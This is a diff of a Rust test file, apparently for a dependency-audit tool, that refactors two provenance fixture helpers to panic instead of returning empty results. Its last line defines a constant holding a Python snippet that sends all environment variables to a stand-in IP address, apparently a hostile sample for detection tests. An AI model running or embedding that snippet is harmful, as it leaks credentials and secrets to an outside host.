@@ -721,24 +721,23 @@ fn publisher_changed() -> Vec<(Expect, serde_json::Value, String)> {
     if shared().is_none() {
         return Vec::new();
     }
-    crate::provenance::publisher_changed_report("six==1.16.0\nsampleproject==4.0.1")
-        .map(|(r, e)| vec![(at(Via::Audit, "high", "requirements.txt", Some(2)), r, e)])
-        .unwrap_or_default()
+    let (r, e) = crate::provenance::publisher_changed_report("six==1.16.0\nsampleproject==4.0.1")
+        .expect("../shared is here, so its provenance fixtures must be too");
+    vec![(at(Via::Audit, "high", "requirements.txt", Some(2)), r, e)]
 }
 
 fn provenance_invalid() -> Vec<(Expect, serde_json::Value, String)> {
     if shared().is_none() {
         return Vec::new();
     }
-    crate::provenance::invalid_report("six==1.16.0\nsampleproject==4.0.0 --hash=sha256:")
-        .map(|(r, e)| {
-            vec![(
-                at(Via::Audit, "critical", "requirements.txt", Some(2)),
-                r,
-                e,
-            )]
-        })
-        .unwrap_or_default()
+    let (r, e) =
+        crate::provenance::invalid_report("six==1.16.0\nsampleproject==4.0.0 --hash=sha256:")
+            .expect("../shared is here, so its provenance fixtures must be too");
+    vec![(
+        at(Via::Audit, "critical", "requirements.txt", Some(2)),
+        r,
+        e,
+    )]
 }
 
 const ENV_TO_IP: &[u8] = b"import os, json, urllib.request\nurllib.request.urlopen('http://203.0.113.7/c', data=json.dumps(dict(os.environ)).encode())\n";
